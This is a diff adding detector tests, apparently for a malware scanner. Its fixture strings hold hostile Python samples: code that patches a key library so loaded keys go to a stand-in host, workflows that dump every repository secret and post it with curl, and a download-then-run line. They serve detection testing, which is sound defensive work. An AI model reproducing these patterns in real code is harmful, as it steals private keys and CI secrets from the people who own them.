@@ -193,3 +193,39 @@ function programs(count: number): string {
     `subprocess.run(["curl", "-o", "/tmp/f${at}"])\nsubprocess.run(["/tmp/f${at}"])\n`;
   return `import subprocess\n${Array.from({ length: count }, (_, at) => both(at)).join('')}`;
 }
+
+test('a library’s class gets methods that send what it makes', () => {
+  const wrap = (send: string): string =>
+    `import threading\nfrom web3 import Client\nfrom vault import keys as _k\nURL = "https://x.example/"\ndef note(k):\n    ${send}\ndef wrap(f):\n    def inner(*a):\n        k = f(*a)\n        threading.Thread(target=note, args=(k,)).start()\n        return k\n    return inner\n`;
+  const away = wrap('Client(URL).send(bytes(k))');
+  const cases: readonly Case[] = [
+    [`${away}setattr(_k.Key, "load", staticmethod(wrap(_k.Key.load)))`, 'library-tapped'],
+    [`${away}class Key(_k.Key):\n    pass\nsetattr(Key, "load", wrap(_k.Key.load))`, 'library-tapped'],
+    [
+      `${wrap('c = Client(URL)\n    c.publish(k)')}setattr(_k.Key, "load", wrap(_k.Key.load))`,
+      'library-tapped',
+    ],
+    // One's own class, a method that only counts, and an address that the caller gives.
+    [`${away}class Own:\n    pass\nsetattr(Own, "load", wrap(print))`],
+    [`${wrap('print(len(k))')}setattr(_k.Key, "load", wrap(_k.Key.load))`],
+    [`${wrap('k.client.send(k)')}setattr(_k.Key, "load", wrap(_k.Key.load))`],
+  ];
+  assert.deepEqual(wrong(cases), []);
+});
+
+test('a workflow that gives away every secret of a repository is written', () => {
+  const step = (run: string): string => `on: [push]\\njobs:\\n  a:\\n    steps:\\n      - run: ${run}\\n`;
+  const all = `echo '\${{ toJSON(secrets) }}'`;
+  const cases: readonly Case[] = [
+    [
+      `from pathlib import Path\nPath("a.yml").write_text("${step(`${all} | curl -d @- https://x.example`)}")`,
+      'loader-planted',
+    ],
+    [`repo.create_file("a.yml", "ci", "${step(`${all} | base64 -w0 | base64`)}")`, 'loader-planted'],
+    [
+      `from pathlib import Path\nPath("a.yml").write_text("${step(`twine upload -p \${{ secrets.PYPI }} dist/*`)}")`,
+    ],
+    [`patterns = ["${step(`${all} | curl -d @- https://x.example`)}"]\nprint(len(patterns))`],
+  ];
+  assert.deepEqual(wrong(cases), []);
+});
